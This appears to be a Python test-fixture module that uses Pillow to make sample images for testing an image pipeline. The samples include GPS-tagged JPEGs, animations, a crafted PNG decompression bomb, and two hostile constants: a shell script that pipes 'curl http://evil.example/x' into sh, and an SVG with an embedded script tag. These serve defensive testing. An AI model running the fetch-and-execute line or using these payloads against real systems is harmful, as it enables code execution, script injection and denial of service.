"""Real images made in the tests with Pillow: photos with EXIF and GPS, animations, bombs."""

from __future__ import annotations

import struct
import zlib
from io import BytesIO

from PIL import ExifTags, Image, ImageCms

# Where the photo was taken, as a phone writes it: 48°51'29" N, 2°17'40" E.
LATITUDE = (48.0, 51.0, 29.0)
LONGITUDE = (2.0, 17.0, 40.0)


def encode(image: Image.Image, kind: str, **options: object) -> bytes:
    output = BytesIO()
    image.save(output, kind, **options)
    return output.getvalue()


def two_colour(size: tuple[int, int], mode: str = "RGB") -> Image.Image:
    """Red on the left half, blue on the right: orientation shows in the pixels."""
    image = Image.new(mode, size, "blue")
    image.paste("red", (0, 0, size[0] // 2, size[1]))
    return image


def photo_with_gps(size: tuple[int, int] = (2000, 1000), orientation: int = 6) -> bytes:
    """A JPEG as a phone makes it: EXIF with the camera, the GPS position and an orientation
    (6: the pixels are to be turned 90° clockwise to be upright), and a comment."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PenpressPhone"
    exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = LATITUDE
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = LONGITUDE
    return encode(two_colour(size), "JPEG", exif=exif, comment=b"taken at home")


def gps_of(data: bytes) -> dict[int, object]:
    with Image.open(BytesIO(data)) as image:
        return dict(image.getexif().get_ifd(ExifTags.IFD.GPSInfo))


def png(size: tuple[int, int] = (1200, 800), mode: str = "RGB") -> bytes:
    return encode(two_colour(size, mode), "PNG")


def webp(size: tuple[int, int] = (1000, 500)) -> bytes:
    return encode(two_colour(size), "WEBP")


def animated_gif(size: tuple[int, int] = (600, 300), frames: int = 4) -> bytes:
    pictures = [Image.new("RGB", size, (60 * n, 255 - 60 * n, 0)) for n in range(frames)]
    return encode(
        pictures[0],
        "GIF",
        save_all=True,
        append_images=pictures[1:],
        duration=120,
        loop=0,
        comment=b"made by a secret tool",
    )


def with_icc_profile(size: tuple[int, int] = (600, 400)) -> bytes:
    """A JPEG with an embedded colour profile (sRGB here, as many cameras write)."""
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return encode(two_colour(size), "JPEG", icc_profile=profile)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width: int, height: int) -> bytes:
    """A tiny, valid-looking PNG whose header claims ``width`` x ``height`` pixels: a
    decompression bomb (decoding it would allocate all of them)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" * 64)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", pixels)
        + _chunk(b"IEND", b"")
    )


SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def opened(data: bytes) -> Image.Image:
    image = Image.open(BytesIO(data))
    image.load()
    return image
